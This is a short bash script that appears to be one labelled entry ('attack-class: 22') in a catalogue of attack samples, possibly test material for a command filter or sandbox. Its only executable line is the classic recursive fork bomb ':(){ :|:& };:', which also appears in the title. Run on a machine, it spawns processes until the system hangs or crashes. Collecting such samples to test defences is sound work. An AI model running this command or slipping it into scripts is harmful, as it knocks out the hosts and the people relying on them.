#!/usr/bin/env bash
# attack-class: 22
# title: :(){ :|:& };:
# why: the classic recursive fork bomb

:(){ :|:& };:
